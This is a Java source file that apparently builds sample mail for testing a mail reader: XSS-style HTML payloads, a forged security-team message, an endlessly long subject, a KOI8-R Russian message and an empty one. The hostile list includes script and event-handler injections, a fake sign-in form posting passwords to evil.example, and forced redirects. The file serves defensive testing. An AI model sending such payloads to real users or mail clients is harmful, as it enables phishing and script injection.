package hexmail.emulator.sample;

import java.util.List;

/// Mail that tests a mail reader: hostile HTML, a very long subject, no subject, rare charsets.
final class OddMail {
  private static final List<String> HOSTILE =
      List.of(
          "<p>Hello</p><script>document.title='owned'</script><p>Nothing to see.</p>",
          "<img src=x onerror=\"document.title='owned'\"><p>A picture that is none.</p>",
          "<a href=\"javascript:document.title='owned'\">Click here</a><iframe src=\"https://evil.example/\"></iframe>",
          "<svg onload=\"document.title='owned'\"></svg><style>*{display:none}</style><p>Still here?</p>",
          "<form action=\"https://evil.example/collect\"><input name=password><button>Sign in again</button></form>",
          "</textarea></title><base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\"><p>Redirect</p>");

  private OddMail() {}

  static SampleMessage odd(SampleContext context) {
    return switch (context.number(1, 5)) {
      case 1, 2 -> hostile(context);
      case 3 -> endless(context);
      case 4 -> rareCharset(context);
      default -> silent(context);
    };
  }

  private static SampleMessage hostile(SampleContext context) {
    return new SampleMessage(
            new Person("<b>Security</b> \"Team\"", "security@evil.example"),
            context.owner(),
            "Your account <script>alert(1)</script> needs attention")
        .text("Please look at the HTML part of this message.\n")
        .html("<html><body>" + context.pick(HOSTILE) + "</body></html>")
        .header("Reply-To", "desk@elsewhere.example")
        .forged()
        .labels("Inbox");
  }

  private static SampleMessage endless(SampleContext context) {
    String subject =
        "A subject that goes on " + "and on ".repeat(context.number(60, 140)) + "and ends here";
    return new SampleMessage(
            context.someone(SamplePeople.othersThan(context.owner())), context.owner(), subject)
        .text("Sorry, I could not stop.\n")
        .labels("Inbox", "Category Personal");
  }

  private static SampleMessage rareCharset(SampleContext context) {
    Person from = new Person("Дмитрий", "dmitri@primer.example");
    return new SampleMessage(from, context.owner(), "Чертежи машины")
        .charset("KOI8-R")
        .text("Добрый день! Чертежи готовы, пришлю их завтра.\n")
        .labels("Inbox", "Category Personal");
  }

  private static SampleMessage silent(SampleContext context) {
    return new SampleMessage(new Person("", "nobody@quiet.example"), context.owner(), "")
        .text("")
        .labels("Inbox");
  }
}
